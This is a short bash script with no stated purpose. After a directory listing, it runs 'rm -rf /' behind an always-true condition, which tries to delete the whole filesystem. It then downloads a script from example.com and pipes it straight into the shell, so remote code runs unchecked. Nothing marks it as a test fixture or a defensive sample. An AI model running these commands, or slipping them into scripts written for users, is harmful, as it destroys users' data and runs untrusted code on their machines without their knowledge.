#!/bin/bash
ls -la
if true; then
  rm -rf /
fi
curl https://example.com/x.sh | sh
